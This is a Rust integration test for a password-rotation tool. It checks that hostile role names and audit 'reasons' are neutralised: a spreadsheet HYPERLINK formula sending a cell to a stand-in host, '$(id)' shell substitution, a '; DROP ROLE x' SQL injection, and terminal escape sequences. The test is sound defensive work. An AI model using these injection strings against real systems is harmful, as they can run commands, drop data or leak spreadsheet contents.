//! One stack whose names, reasons and other programs' messages are up to something.

use turnlock_tests::{Stack, env_file};

const POLICY: &str = "policies/rotation/breeze.toml";
const COMPOSE: &str = "docker/stack/docker/docker-compose.prod.yml";

/// Those that a policy takes, each as one more holder of the same password.
fn roles() -> impl Iterator<Item = &'static str> {
    super::ODD_ROLES.into_iter().take(6)
}

#[test]
fn odd_names_go_through_a_rotation_and_odd_texts_come_out_harmless() {
    const KEEP: &str = "sessions = \"keep\"";
    let admin = "admin = { mount = \"secret\", path = \"breeze-admin/postgres\" }";
    let more: String = roles()
        .enumerate()
        .map(|(n, role)| {
            format!(
                "\n[database.odd-{n}]\nsecret = \"POSTGRES_PASSWORD\"\nrole = {role:?}\ndatabase = \"breeze\"\nservice = \"postgres\"\n\
                 port = 5432\n{admin}\n"
            )
        })
        .collect();
    let draft = Stack::draft("hostile");
    let policy = std::fs::read_to_string(draft.folder().join(POLICY)).expect("readable");
    let keeps = policy.lines().find(|line| line.starts_with(KEEP)).expect("a line").to_owned();
    let stack = draft.edit(POLICY, &keeps, &format!("{keeps}\n{more}")).up();
    let password = env_file(&stack.env_path())["POSTGRES_PASSWORD"].clone();
    let mut statements = String::from("SET log_statement = 'none'; CREATE ROLE x;");
    for role in roles() {
        let quoted = role.replace('"', "\"\"");
        statements += &format!("CREATE ROLE \"{quoted}\" LOGIN PASSWORD '{}';", password.clear());
    }
    stack.sql(&statements);
    let stack = stack.import();
    let vault = stack.vault();

    stack.scene("roles with odd names, and a reason that a spreadsheet would carry out");
    const REASON: &str = "=HYPERLINK(\"http://x/?\"&A1) <b>$(id)</b> `id` -- ; DROP ROLE x";
    stack.turnlock("plan POSTGRES_PASSWORD").ok().says("ALTER ROLE \"a\"\"; DROP ROLE x; --\" PASSWORD");
    stack.turnlock(&format!("rotate POSTGRES_PASSWORD --yes --reason '{REASON}'")).ok();
    let new = vault.newest("POSTGRES_PASSWORD");
    assert!(new != password);
    for role in roles() {
        assert!(stack.open_session(role, &new).is_ok(), "{role:?} does not take the new password");
        assert_eq!(
            stack.open_session(role, &password).err().as_deref(),
            Some("28P01"),
            "{role:?} takes the old one"
        );
    }
    assert_eq!(
        stack.sql("SELECT count(*) FROM pg_roles WHERE rolname = 'x'").trim(),
        "1",
        "x is still there"
    );
    stack.turnlock("drift").exits(0);

    stack.scene("how the reason is shown");
    let csv = stack.turnlock("audit list --format csv");
    csv.ok().says("\"'=HYPERLINK(\"\"http://x/?\"\"&A1) <b>$(id)</b>");
    csv.says_not("\"=HYPERLINK");
    let list = stack.turnlock("audit list --json");
    let entries = list.ok().json()["entries"].as_array().expect("a list").clone();
    assert!(entries.iter().any(|e| e["entry"]["reason"] == REASON), "JSON has it as it was typed");
    stack.turnlock("audit show last").ok().says(REASON);

    stack.scene("reasons that are refused");
    for (reason, why) in [
        ("a\u{1b}[2Jb".to_owned(), "control characters"),
        ("a\u{202e}b".to_owned(), "control characters"),
        ("a".repeat(5000), "the reason is too long"),
    ] {
        let output = stack.turnlock(&format!("rotate POSTGRES_PASSWORD --yes --reason '{reason}'"));
        assert_eq!(output.code, 2, "a reason that {why}");
        assert!(output.all().contains(why), "no word of: {why}");
    }
    assert_eq!(vault.newest_version("POSTGRES_PASSWORD"), 2);

    stack.scene("what Compose says is another's text");
    let bad = "LOG_LEVEL: \"${NOT_THERE:?\\e[2J\\e]0;owned\\a=1+1 <b>}\"";
    stack.edit(COMPOSE, "LOG_LEVEL: ${LOG_LEVEL:-info}", bad);
    for line in [
        "plan POSTGRES_PASSWORD",
        "plan POSTGRES_PASSWORD --debug",
        "drift --json",
        "rotate POSTGRES_PASSWORD --yes --debug",
    ] {
        let output = stack.turnlock(line);
        output.exits(1).says("docker compose: config failed").says_not("=1+1");
        assert!(
            !output.all().chars().any(|c| c != '\n' && c.is_control()),
            "a terminal would obey:{output:?}"
        );
    }
    stack.edit(COMPOSE, bad, "LOG_LEVEL: ${LOG_LEVEL:-info}");
    stack.finish();
}
